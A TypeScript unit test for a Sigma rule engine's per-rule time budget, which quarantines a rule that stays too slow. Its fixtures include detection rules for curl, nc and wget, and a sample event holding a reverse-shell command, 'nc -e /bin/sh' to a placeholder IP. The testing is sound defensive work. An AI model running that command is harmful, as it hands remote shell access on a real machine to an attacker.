// Per-rule isolation: a rule over its evaluation budget is quarantined; every other rule keeps running.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { createRuleBudget } from '../../src/agent/rule-budget.ts';
import { createEvaluator, loadRuleSet } from '../../src/sigma/index.ts';

const rule = (id: string, title: string, image: string) => ({
  name: `${id}.yml`,
  text: `title: ${title}\nid: ${id}\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel: {Image|endswith: ${image}}\n  condition: sel\nlevel: high\n`,
});
const ids = ['00000000-0000-4000-8000-000000000001', '00000000-0000-4000-8000-000000000002', '00000000-0000-4000-8000-000000000003'];

describe('rule budget', () => {
  it('quarantines only the rule that stays over its budget, after consecutive strikes', () => {
    const { ruleSet } = loadRuleSet([rule(ids[0]!, 'curl', '/curl'), rule(ids[1]!, 'slow one', '/nc'), rule(ids[2]!, 'wget', '/wget')]);
    assert.equal(ruleSet.detections.length, 3);
    const evaluator = createEvaluator(ruleSet);
    // A fake clock: each rule is timed by two calls, in rule order; the second rule's end is 5 ms later.
    let calls = 0;
    let now = 0;
    const clock = () => {
      const call = calls++ % 6;
      now += call === 3 ? 5 : 0.001;
      return now;
    };
    const quarantined: string[] = [];
    const budget = createRuleBudget({ ruleSet, evaluator, budgetMs: 1, sampleEvery: 2, quarantineAfter: 3, clock, onQuarantine: (id) => quarantined.push(id) });
    const event = { Image: '/usr/bin/nc', CommandLine: 'nc -e /bin/sh 203.0.113.7 4444' };
    const logsource = { product: 'linux', category: 'process_creation' };
    for (let i = 0; i < 5; i++) budget.observe(event, logsource, i); // samples at 0, 2, 4
    assert.deepEqual(quarantined, [ids[1]]);
    assert.equal(budget.samples, 3);
    assert.match(evaluator.quarantined()[0]!.reason, /over its evaluation budget: 5\.\d+ ms per event \(budget 1 ms\) on 3 samples in a row/);
    assert.deepEqual(evaluator.evaluate(event, { timeMs: 0, eventIndex: 0, logsource }).detections, [], 'the quarantined rule no longer matches');
    assert.equal(evaluator.evaluate({ Image: '/usr/bin/curl' }, { timeMs: 0, eventIndex: 1, logsource }).detections[0]!.rule.id, ids[0], 'the others still run');
    assert.equal(budget.costs(1)[0]!.ruleId, ids[1]);
  });

  it('a single slow sample (a GC pause) does not condemn a rule', () => {
    const { ruleSet } = loadRuleSet([rule(ids[0]!, 'curl', '/curl')]);
    const evaluator = createEvaluator(ruleSet);
    let n = 0;
    let now = 0;
    const clock = () => { n += 1; now += n === 4 ? 50 : 0.001; return now; };
    const budget = createRuleBudget({ ruleSet, evaluator, budgetMs: 1, sampleEvery: 1, quarantineAfter: 2, clock });
    for (let i = 0; i < 10; i++) budget.observe({ Image: '/x' }, { product: 'linux', category: 'process_creation' }, i);
    assert.deepEqual(evaluator.quarantined(), []);
  });
});
